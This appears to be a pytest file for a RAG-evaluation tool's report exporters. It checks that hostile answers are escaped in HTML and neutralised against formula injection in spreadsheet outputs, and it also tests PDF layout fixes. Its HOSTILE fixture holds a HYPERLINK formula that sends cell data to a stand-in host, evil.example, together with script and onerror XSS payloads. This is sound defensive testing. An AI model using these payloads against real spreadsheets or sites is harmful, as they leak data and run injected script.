"""Reports read back: HTML parsed, XLSX re-read, PDF pages counted; hostile answers escaped and neutralised."""

from __future__ import annotations

import json
from html.parser import HTMLParser

import pandas as pd
import pytest

from rageval_desktop.cli import main
from rageval_desktop.core.base.text import neutralise
from rageval_desktop.core.reports import write_report
from tests.core.test_metrics import build

HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"click") <script>alert(1)</script> '
           '<img src=x onerror=alert(2)> $x^2$')


@pytest.fixture
def project(tmp_path):
    p = build(tmp_path, v2_breaks="keyword-heavy")
    with p.write("hostile") as w:  # a hostile answer on a failing row, so it reaches the failure samples
        w.execute("UPDATE run_rows SET answer = ?, question = ? WHERE external_id = 'g10' AND run_id = "
                  "(SELECT id FROM runs WHERE name = 'v2')", (HOSTILE, "-1+1 @SUM(A1) question?"))
        w.execute("UPDATE retrieved_passages SET in_prompt = (rank <= 5) WHERE run_row_id = (SELECT rr.id FROM "
                  "run_rows rr JOIN runs r ON r.id = rr.run_id WHERE r.name = 'v2' AND rr.external_id = 'g10')")
    yield p
    p.close()


class Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def test_html_is_self_contained_and_escaped(project, tmp_path):
    out = write_report(project, "v2", tmp_path / "r.html", baseline="v1")
    html = out.read_text()
    parsed = Collector()
    parsed.feed(html)
    tags = [t for t, _ in parsed.tags]
    assert "script" not in tags and "iframe" not in tags
    imgs = [a for t, a in parsed.tags if t == "img"]
    assert len(imgs) == 2 and all(a["src"].startswith("data:image/png;base64,") for a in imgs)
    assert not any(a.get("onerror") for _, a in parsed.tags)
    assert "http://evil" not in "".join(a.get("src", "") + a.get("href", "") for _, a in parsed.tags)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert HOSTILE in "".join(parsed.text)          # shown as the text it is
    assert "Dashboard — v2" in html and "Comparison — v2 vs v1" in html and "Judge health" in html
    assert "keyword-heavy" in html


def test_xlsx_reads_back_with_formulas_neutralised(project, tmp_path):
    out = write_report(project, "v2", tmp_path / "r.xlsx", baseline="v1")
    sheets = pd.read_excel(out, sheet_name=None)
    assert set(sheets) == {"dashboard", "comparison", "judges", "failures"}
    dash = sheets["dashboard"]
    value = dash[(dash["slice"] == "keyword-heavy") & (dash["metric"] == "recall@5")]["value"].iloc[0]
    assert value == 0.0
    failures = sheets["failures"]
    answers = failures.loc[failures["external_id"] == "g10", "answer"].tolist()
    assert answers == ["'" + HOSTILE]
    assert failures.loc[failures["external_id"] == "g10", "question"].iloc[0] == "'-1+1 @SUM(A1) question?"
    from openpyxl import load_workbook

    cells = [c.value for row in load_workbook(out)["failures"].iter_rows() for c in row]
    assert not any(isinstance(v, str) and v.startswith(("=", "+", "-", "@")) for v in cells)


def test_csv_neutralised_jsonl_and_parquet_raw(project, tmp_path):
    csv = pd.read_csv(write_report(project, "v2", tmp_path / "r.csv"))
    assert csv["text"].dropna().str.contains("HYPERLINK").any()
    assert not csv["text"].dropna().str.startswith(("=", "+", "-", "@")).any()
    rows = [json.loads(line) for line in write_report(project, "v2", tmp_path / "r.jsonl").read_text().splitlines()]
    assert any(r["section"] == "failure" and r["text"].startswith("g10: -1+1") for r in rows)
    parquet = pd.read_parquet(write_report(project, "v2", tmp_path / "r.parquet"))
    assert len(parquet) == len(rows)


def test_pdf_has_pages_and_keeps_dollar_signs(project, tmp_path):
    from pypdf import PdfReader

    reader = PdfReader(write_report(project, "v2", tmp_path / "r.pdf", baseline="v1"))
    assert len(reader.pages) == 4    # dashboard, comparison, judges + failure counts, failures to read
    text = "".join(page.extract_text() for page in reader.pages)
    assert "keyword-heavy" in text and "$x^2$" in text.replace(" ", "")


def test_markdown_and_cli(project, tmp_path, capsys):
    project.close()
    path = str(tmp_path / "m.rageval")
    assert main(["report", path, "--run", "v2", "--baseline", "v1", "--out", str(tmp_path / "r.md")]) == 0
    md = (tmp_path / "r.md").read_text()
    assert "| keyword-heavy | 10 | 10 | 0.0 |" in md and "### Against v1" in md and "**Gate: " in md
    assert main(["report", path, "--run", "v2", "--out", str(tmp_path / "r.docx")]) == 1
    assert "cannot write 'r.docx'" in capsys.readouterr().err


@pytest.mark.parametrize("value, expected", [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"),
                                             ("\tx", "'\tx"), ("\rx", "'\rx"), ("ok", "ok"), (3.5, 3.5)])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


@pytest.mark.slow
def test_every_table_format_of_the_stock_demo_writes(tmp_path):
    """Was (issue 28): `rageval report d.rageval --run v2 --out r.parquet` failed on the stock demo with an internal
    error (a PPI estimate, a dict, in the numeric value column)."""
    import pandas as pd

    from rageval_desktop.cli import main

    path = tmp_path / "d.rageval"
    assert main(["demo", str(path)]) == 0
    for ext in (".parquet", ".csv", ".jsonl", ".xlsx"):
        assert main(["report", str(path), "--run", "v2", "--baseline", "v1", "--out", str(tmp_path / f"r{ext}")]) == 0
    frame = pd.read_parquet(tmp_path / "r.parquet")
    assert pd.api.types.is_numeric_dtype(frame["value"]) and "corrected (ppi)" in set(frame["section"])


def test_pdf_pages_keep_their_text_inside_the_page_and_their_headers_inside_their_columns(tmp_path, monkeypatch):
    """The stock demo's PDF: the comparison page's subtitle (the gate's rule, three lines) ran off the page's right
    edge and its second line grew upwards into the title; 'correctness_binary' overran its column's header into the
    next. Each page is drawn and measured as it is saved: every text within the page, subtitles under their titles,
    headers within their cells."""
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.backends.backend_pdf as backend
    from matplotlib.backends.backend_agg import FigureCanvasAgg

    problems: list[str] = []
    counted = {"pages": 0, "headers": 0}

    def measure(fig) -> None:
        canvas = FigureCanvasAgg(fig)
        canvas.draw()
        renderer = canvas.get_renderer()
        page = fig.bbox
        texts = [(t.get_text(), t.get_window_extent(renderer)) for t in fig.texts if t.get_text()]
        for text, box in texts:
            if box.x0 < page.x0 or box.x1 > page.x1 + 0.5:
                problems.append(f"runs off the page: {text[:60]!r}")
        if len(texts) > 1 and texts[1][1].y1 > texts[0][1].y0 + 0.5:    # title, then subtitle under it
            problems.append(f"subtitle into the title: {texts[1][0][:60]!r}")
        for ax in fig.axes:
            for table in ax.tables:
                for (row, _col), cell in table.get_celld().items():
                    if row == 0:
                        counted["headers"] += 1
                        if cell.get_text().get_window_extent(renderer).width > cell.get_window_extent(renderer).width:
                            problems.append(f"header overruns its column: {cell.get_text().get_text()!r}")
        counted["pages"] += 1

    class Pages:        # stands in for PdfPages: measures each page as it is saved
        def __init__(self, *args, **kwargs):
            pass

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            return False

        def savefig(self, fig, **kwargs):
            measure(fig)

    monkeypatch.setattr(backend, "PdfPages", Pages)
    path = tmp_path / "d.rageval"
    assert main(["demo", str(path)]) == 0
    assert main(["report", str(path), "--run", "v2", "--baseline", "v1", "--out", str(tmp_path / "r.pdf")]) == 0
    assert counted["pages"] >= 4 and counted["headers"] > 20
    assert problems == []


def test_an_empty_forest_plot_says_why_and_the_plots_get_a_line_per_slice():
    """Issue 77: under "selective judge + desk" the judge plots were empty axes with no word."""
    from rageval_desktop.core.reports.plots import forest_height, no_estimate

    comparison = {"slices": {"all": {"hit@5": {"delta": 1.0}}, "easy": {"hit@5": {"delta": 2.0}}},
                  "missing": [{"metric": "mrr", "why": "no gold chunk ids"}],
                  "unavailable": [{"slice": s, "metric": "correctness_binary", "why": "no selective licence"}
                                  for s in ("all", "easy")]}
    assert no_estimate(comparison, "hit@5") is None
    assert no_estimate(comparison, "mrr") == "not compared: no gold chunk ids"
    assert no_estimate(comparison, "correctness_binary") == "no estimate: no selective licence"
    comparison["unavailable"].append({"slice": "easy", "metric": "correctness", "why": "too few ratings"})
    comparison["unavailable"].append({"slice": "all", "metric": "correctness", "why": "no licence"})
    assert no_estimate(comparison, "correctness").startswith("no estimate in any slice")
    assert forest_height(6, 7) == 2 * (16 * 7 + 72) + 28 and forest_height(1, 7) == 16 * 7 + 72 + 28


def test_slice_names_stand_upright_where_a_slant_would_run_them_together():
    """Issue 77: at 1024 px the dashboard's four plots of seven slices cut 'adversarial' to 'versarial' and ran the
    slanted names into each other."""
    from rageval_desktop.core.reports.plots import label_slant

    assert label_slant(792, 4, 7)["rotation"] == 90          # the 1024-px dashboard
    assert label_slant(1300, 2, 7)["rotation"] == 35         # room for a slant
